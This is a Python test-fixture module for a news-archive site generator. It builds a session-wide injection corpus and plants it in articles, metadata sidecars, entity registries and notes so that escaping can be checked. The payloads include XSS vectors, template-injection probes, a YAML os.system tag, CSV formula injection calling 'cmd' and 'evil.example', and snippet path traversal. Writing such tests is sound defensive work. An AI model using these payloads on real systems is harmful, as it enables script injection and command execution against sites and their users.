"""The project's own injection corpus (issue 11, item 6), by class, and the
archive built from it once per session.

Every payload was written for this project (none is copied from a public
list) and is invented TEST FIXTURE text. A payload that runs script calls
``na_injected(...)`` (defined by the test before any page script) or opens a
dialog; one that loads something points at ``evil.example``; one that makes
an element gives it the id or class ``na-injected``. The payloads go into
every channel a contributor or a source controls:

* headline, body, byline, editors, agency: raw People's Daily text dumps;
* sidecar: ``<name>.meta.yml`` values of every field (names, records, CSV cells);
* notes: bodies, quotes, authors, source titles and URLs;
* registry: entity names, aliases and descriptions, named in the text so
  they become entity pages, links and search filter values.

What a channel refuses (a note's ``javascript:`` source, say) is reported
with a one-line error and the rest is built.
"""

from __future__ import annotations

import re
import shutil
from dataclasses import dataclass, field
from pathlib import Path

import pytest
import yaml

ROOT = Path(__file__).resolve().parent.parent

# --- payloads, by class ----------------------------------------------------------------------

ELEMENTS = (
    "<script>na_injected('script')</script>",
    '<script src="https://evil.example/na.js"></script>',
    "<img src=na-missing.png onerror=na_injected('img')>",
    '<img src="na-missing.png" onerror="alert(11)" class="na-injected">',
    "<svg onload=na_injected('svg')><circle r=2 /></svg>",
    "<svg><script>na_injected('svg-script')</script></svg>",
    '<iframe src="javascript:na_injected(\'iframe\')"></iframe>',
    "<iframe srcdoc=\"<script>parent.na_injected('srcdoc')</script>\"></iframe>",
    '<object data="https://evil.example/na.swf"></object>',
    '<embed src="https://evil.example/na.svg">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/moved">',
    '<base href="https://evil.example/">',
    '<link rel="stylesheet" href="https://evil.example/na.css">',
    '<style>@import "https://evil.example/na.css"; .md-content{display:none}</style>',
    '<form action="https://evil.example/f"><button formaction="javascript:alert(12)">go</button></form>',
    "<details open ontoggle=na_injected('details')><summary>x</summary></details>",
    '<video><source onerror="alert(13)"></video>',
    "<audio src=na-missing.mp3 onerror=na_injected('audio')>",
    "<body onload=na_injected('body')>",
    "<input autofocus onfocus=na_injected('input')>",
    '<a href="javascript:alert(14)" id="na-injected">a link</a>',
    "<math><mtext><table><mglyph><style><img src=na-missing.png onerror=na_injected('mxss')>",
    '<noscript><p title="</noscript><img src=na-missing.png onerror=alert(15)>">',
    "<template><img src=na-missing.png onerror=na_injected('template')></template>",
    '<div style="background:url(javascript:alert(16))" class="na-injected">styled</div>',
    '<object data="data:text/html;base64,PHNjcmlwdD5uYV9pbmplY3RlZCgnYjY0Jyk8L3NjcmlwdD4="></object>',
)
BREAKOUTS = (
    "\"><img src=na-missing.png onerror=na_injected('dq')>",
    "'><svg onload=na_injected('sq')>",
    '" onmouseover="na_injected(\'attr\')" data-x="',
    "' autofocus onfocus='alert(21)",
    "`><img src=na-missing.png onerror=na_injected('bt')>",
    "</title><script>na_injected('title')</script>",
    "</textarea><script>alert(22)</script>",
    "</script><script>na_injected('script-end')</script>",
    "--><script>alert(23)</script><!--",
    "]]><script>na_injected('cdata')</script>",
    "</noscript><img src=na-missing.png onerror=alert(24)>",
    "</style><img src=na-missing.png onerror=na_injected('style-end')>",
    "</label><img src=na-missing.png onerror=na_injected('label')> (1)",
)
URLS = (
    "javascript:alert(31)", "JaVaScRiPt:na_injected('case')", " javascript:alert(32)", "java\tscript:alert(33)",
    "javascript&colon;alert(34)", "javascript&#58;na_injected('entity')", "&#106;avascript:alert(35)",
    "data:text/html,<script>alert(36)</script>", "data:image/svg+xml,<svg onload=alert(37)>",
    "vbscript:msgbox(38)", "//evil.example/protocol-relative", "https://evil.example/plain",
)
MARKDOWN = (
    "[a link](javascript:alert(41))", "[a link](JAVASCRIPT:na_injected('md'))", "![an image](javascript:alert(42))",
    "![an image](https://evil.example/na.png)", "<javascript:alert(43)>", "<https://evil.example/autolink>",
    "[ref][na]\n\n[na]: javascript:na_injected('ref')", "[b64](data:text/html;base64,PHNjcmlwdD4=)",
    '{: onclick="alert(44)" }', "text {: .na-injected #na-injected onclick=na_injected('attr-list') }",
    '--8<-- "mkdocs.yml"', ';--8<-- "../../mkdocs.yml"', '!!! danger "<img src=na-missing.png onerror=alert(45)>"',
    "<div markdown=\"1\">**bold** <script>na_injected('md-in-html')</script></div>",
    "# a heading <img src=na-missing.png onerror=alert(46)>", "[x]: <javascript:alert(47)>",
    "[a](<javascript:alert(48)>)", "[a](#\"onmouseover=\"na_injected('title'))",
    "```html\n<script>alert(49)</script>\n```", "| a | b |\n|---|---|\n| <img src=na-missing.png onerror=alert(50)> | c |",
)
TEMPLATES = (
    "{{ 7*7 }}", "{{ config }}", "{{ ''.__class__.__mro__ }}", "{% for x in [1] %}na-loop{% endfor %}",
    "{# a comment #}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{{ lipsum.__globals__ }}", "{% raw %}{{x}}{% endraw %}",
)
ENCODED = (
    "&lt;script&gt;alert(61)&lt;/script&gt;", "&amp;lt;img src=x onerror=alert(62)&amp;gt;",
    "%3Cscript%3Ealert(63)%3C%2Fscript%3E", "\\u003cscript\\u003ena_injected('u')\\u003c/script\\u003e",
    "+ADw-script+AD4-alert(64)+ADw-/script+AD4-", "\uff1cscript\uff1ealert(65)\uff1c/script\uff1e",
    "&#60;img src=x onerror=alert(66)&#62;", "&#x3C;svg onload=na_injected('hex')&#x3E;",
)
UNICODE = (
    "\u202eTEST FIXTURE reversed\u202c", "zero\u200bwidth\u200djoin", "e\u0301\u0301\u0301 combining",
    "\ufeffbyte order mark", "line\u2028separator\u2029paragraph", "RTL \u05e9\u05dc\u05d5\u05dd fixture",
    "\U0001f600 an emoji", "\u0130stanbul fixture", "tab\tand\x0bvertical",
)
YAMLISH = (
    "---", "title: na-injected", "- a list item", "!!python/object/apply:os.system [\"true\"]",
    "key: &na [*na]", "? complex key", "%YAML 1.1", "\"an unclosed quote", "# not a comment",
)
CSV = (
    '=HYPERLINK("https://evil.example","x")', "+1+1", "-2+3", "@SUM(1,1)", "\t=1", '=cmd|" /C calc"!A0',
    "\uff1d1+1", " =IMPORTXML(x)",
)
SCRIPTISH = (
    "</script><script>alert(71)</script>", '"});na_injected(\'json\');//', "';alert(72);//",
    '\\";alert(73);//', "${alert(74)}", "`+alert(75)+`", "\u2028alert(76)",
)
CLASSES = {"elements": ELEMENTS, "breakouts": BREAKOUTS, "urls": URLS, "markdown": MARKDOWN,
           "templates": TEMPLATES, "encoded": ENCODED, "unicode": UNICODE, "yamlish": YAMLISH, "csv": CSV,
           "scriptish": SCRIPTISH}
ALL = tuple(p for payloads in CLASSES.values() for p in payloads)


def one_line(payload: str) -> str:
    return " ".join(payload.split())


def paren_free(payloads) -> list[str]:
    """Payloads a byline, agency or editor line can hold (their lines are delimited by parentheses)."""
    return [one_line(p) for p in payloads if "(" not in p and ")" not in p and "," not in p and one_line(p)]


#: long and repetitive text (the hang classes): a 30 KB paragraph of quotations, brackets, markup
LONG = (
    ('"TEST FIXTURE words in quotation marks," said Testfixture Speaker, and "more of them" as ' * 340)[:30_000],
    "<" * 3000 + ">" * 3000, "[" * 2000 + "](javascript:alert(81))", "(" * 2000 + ")" * 2000,
    "a" * 20_000, ("Jan. 22 May 99 U.S. A.B. 12 12 12 as of Feb. 30 " * 400),
)

# --- the archive ------------------------------------------------------------------------------

#: registry entities whose names are payloads; the text names each of them
ENTITIES = (
    ("test-fixture-img-org", "TEST FIXTURE <img src=na-missing.png onerror=na_injected('registry')> Org",
     "organisation"),
    ("test-fixture-quote-person", "Testfixture \"><svg onload=alert(91)> Person", "person"),
    ("test-fixture-label-place", "Testfixture </label><img src=na-missing.png onerror=alert(92)> (1) Place", "place"),
    ("test-fixture-template-org", "TEST FIXTURE {{ 7*7 }} {% raw %} Agency Org", "organisation"),
    ("test-fixture-url-org", "TEST FIXTURE javascript:alert(93) Org", "organisation"),
    ("test-fixture-bidi-person", "Testfixture \u202eNosrep\u202c Person", "person"),
)
DESCRIPTIONS = ("TEST FIXTURE <script>na_injected('description')</script> [x](javascript:alert(94)) {{ config }}",)


def source_line(byline: str | None, agency: str) -> str:
    by = f"By {byline} " if byline else ""
    return f"{by}({agency})\xa0\xa0\xa0\xa015:51, May 17, 2020"


def raw_article(headline: str, paragraphs: list[str], *, byline: str | None = None, agency: str = "Xinhua",
                editors: str = "Test Fixture") -> str:
    body = "\n\n".join(one_line(p) if "\n" not in p else p.replace("\n", " ") for p in paragraphs)
    return (f"Apple News Facebook Twitter Sunday, May 17, 2020\n\n{headline}\n\n{source_line(byline, agency)}\n\n"
            f"BEIJING, May 17 (Xinhua) -- TEST FIXTURE: an invented article carrying an injection corpus.\n\n"
            f"{body}\n\n(Web editor: {editors})\n")


@dataclass(slots=True)
class Corpus:
    root: Path
    site: Path
    report: object  # generator.diagnostics.Report of the build
    check: object  # ... of newsarchive check
    articles: dict[str, str] = field(default_factory=dict)  # article id -> headline
    site_url: str = ""  # mkdocs.yml's: the site's own absolute address (canonical links, feeds)


def write_archive(root: Path) -> dict[str, str]:
    """The corpus as a scratch repository in ``root``; article id -> headline."""
    from conftest import copy_site

    copy_site(root)
    raw = root / "site-data" / "raw"
    headlines: dict[str, str] = {}
    entity_text = " ".join(name for _id, name, _kind in ENTITIES)
    names = paren_free(ALL)
    for number, (name, payloads) in enumerate(CLASSES.items(), start=1):
        stem = f"2020-05-{number:02d}-test-fixture-corpus-{name}"
        headline = one_line(f"TEST FIXTURE {name}: {payloads[number % len(payloads)]}")[:480]
        paragraphs = [f"TEST FIXTURE {name} {i}: {p}" for i, p in enumerate(payloads)]
        paragraphs.append(f"TEST FIXTURE names: {entity_text} met Testfixture Speaker.")
        text = raw_article(headline, paragraphs, byline=names[number % len(names)],
                           agency=names[(number * 7) % len(names)],
                           editors=", ".join(names[(number * 3 + k) % len(names)] for k in range(3)))
        (raw / f"{stem}.txt").write_text(text.replace("May 17, 2020", f"May {number:02d}, 2020"), encoding="utf-8")
        headlines[stem] = headline
    # every sidecar field, each value a payload (what a maintainer's correction can hold)
    stem = "2020-06-01-test-fixture-corpus-sidecar"
    (raw / f"{stem}.txt").write_text(raw_article("TEST FIXTURE sidecar article", ["TEST FIXTURE text."]),
                                     encoding="utf-8")
    paragraphs = [f"TEST FIXTURE sidecar paragraph {i}: {p}" for i, p in enumerate(ALL[:40])]
    side = {
        "title": "TEST FIXTURE sidecar </title><script>na_injected('sidecar title')</script> {{ config }}",
        "agency": "TEST FIXTURE <img src=na-missing.png onerror=na_injected('sidecar agency')>",
        "publisher": "TEST FIXTURE \"><svg onload=alert(101)>",
        "byline": "Testfixture </label><img src=na-missing.png onerror=alert(102)> (1)",
        "editors": [one_line(p) for p in ELEMENTS[:4]],
        "paragraphs": paragraphs,
        "url": "https://example.org/fixture/?q=%3Cscript%3Ena_injected('url')%3C/script%3E&x='onmouseover='alert(105)",
        "archived": "2026-01-01",
        "corrected_on": "2026-01-02",
        "dateline": {"place": "<script>na_injected('dateline')</script>", "date": "2020-06-01",
                     "text": "TEST FIXTURE <img src=na-missing.png onerror=alert(103)>"},
        "people": [{"name": one_line(p), "forms": [one_line(p)], "paragraphs": [1]} for p in BREAKOUTS[:4]],
        "organisations": [{"name": "TEST FIXTURE {{ 7*7 }} <b>Org</b>", "forms": ["x"], "paragraphs": [2]}],
        "places": [{"name": "Testfixture javascript:alert(104) Place", "forms": ["y"], "paragraphs": [3]}],
        "quotes": [{"text": one_line(p), "speaker": one_line(q), "paragraph": 1 + i, "kind": "direct"}
                   for i, (p, q) in enumerate(zip(ELEMENTS[:5], BREAKOUTS[:5]))],
        "events": [{"date": "2020-05-1" + str(i), "expression": one_line(p), "text": one_line(q), "paragraph": 1}
                   for i, (p, q) in enumerate(zip(TEMPLATES[:5], ELEMENTS[5:10]))],
        "key_figures": [{"text": f"{p} 5 cases", "value": 5 + i, "unit": p, "counts": p, "paragraph": 1,
                         "qualifier": p} for i, p in enumerate(CSV)],
    }
    (raw / f"{stem}.meta.yml").write_text("# TEST FIXTURE sidecar: an injection corpus\n"
                                          + yaml.safe_dump(side, allow_unicode=True, sort_keys=False),
                                          encoding="utf-8")
    headlines[stem] = side["title"]
    # long and repetitive input, raw: the hang classes
    stem = "2020-06-02-test-fixture-corpus-long"
    (raw / f"{stem}.txt").write_text(raw_article("TEST FIXTURE long input", list(LONG)), encoding="utf-8")
    headlines[stem] = "TEST FIXTURE long input"
    write_registry(root)
    write_notes(root, "2020-05-04-test-fixture-corpus-markdown")
    return headlines


def write_registry(root: Path) -> None:
    path = root / "site-data" / "entities.yml"
    data = yaml.safe_load(path.read_text(encoding="utf-8"))
    for number, (entity_id, name, kind) in enumerate(ENTITIES):
        data["entities"].append({"id": entity_id, "name": name, "kind": kind,
                                 "aliases": [f"Testfixture alias {number} <b onclick=alert(95)>x</b>"],
                                 "description": DESCRIPTIONS[0]})
    data["entities"].append({"id": "test-fixture-speaker", "name": "Testfixture Speaker", "kind": "person"})
    path.write_text("# TEST FIXTURE entries appended for the injection corpus\n"
                    + yaml.safe_dump(data, allow_unicode=True, sort_keys=False), encoding="utf-8")


def write_notes(root: Path, article_id: str) -> None:
    """Notes on the Markdown-class article, every field a payload; a few are refused (reported)."""
    folder = root / "site-data" / "annotations" / article_id
    folder.mkdir(parents=True)
    notes = []
    for number, payload in enumerate(MARKDOWN + ELEMENTS[:6] + TEMPLATES[:3]):
        notes.append({
            "quote": f"TEST FIXTURE markdown {number}:" if number < len(MARKDOWN) else "TEST FIXTURE: an invented",
            "kind": ("context", "fact-check", "correction", "source", "definition")[number % 5],
            **({"verdict": "misleading"} if number % 5 == 1 else {}),
            "body": f"TEST FIXTURE note {number}: {payload}",
            "author": one_line(f"Testfixture {BREAKOUTS[number % len(BREAKOUTS)]}")[:190],
            "added": "2026-01-01",
            "sources": [{"url": "https://example.org/fixture?q=" + one_line(payload).replace(" ", "+")[:100],
                         "title": one_line(payload)[:290]}],
        })
    notes.append({"quote": "TEST FIXTURE: an invented", "kind": "context", "body": "TEST FIXTURE refused source",
                  "author": "Test Fixture", "added": "2026-01-01",
                  "sources": [{"url": "javascript:na_injected('note url')", "title": "refused"}]})
    (folder / "corpus.yml").write_text("# TEST FIXTURE notes: an injection corpus\n"
                                       + yaml.safe_dump(notes, allow_unicode=True, sort_keys=False),
                                       encoding="utf-8")


@pytest.fixture(scope="session")
def corpus(tmp_path_factory) -> Corpus:
    """The corpus built once per session: generator, MkDocs, Pagefind, offline index."""
    from generator.checks import check_archive
    from generator.diagnostics import Report
    from generator.pipeline import Paths
    from generator.site import build_site

    root = tmp_path_factory.mktemp("corpus")
    headlines = write_archive(root)
    checked, _summary = check_archive(Paths(root))
    report = Report()
    result = build_site(root, report, quiet=True)
    assert result.built, [d.format() for d in report.diagnostics]
    found = re.search(r"^site_url:\s*(\S+)", (root / "mkdocs.yml").read_text(encoding="utf-8"), re.M)
    return Corpus(root, result.site_dir, report, checked, headlines, found.group(1) if found else "")


def site_pages(site: Path) -> list[str]:
    """Every built page (site-relative), not Pagefind's or the offline index's files."""
    return sorted(p.relative_to(site).as_posix() for p in site.rglob("*.html")
                  if not p.relative_to(site).as_posix().startswith(("pagefind/", "search-offline/")))


def copy_tree(source: Path, target: Path) -> None:  # for tests that change a copy
    shutil.copytree(source, target, symlinks=True)
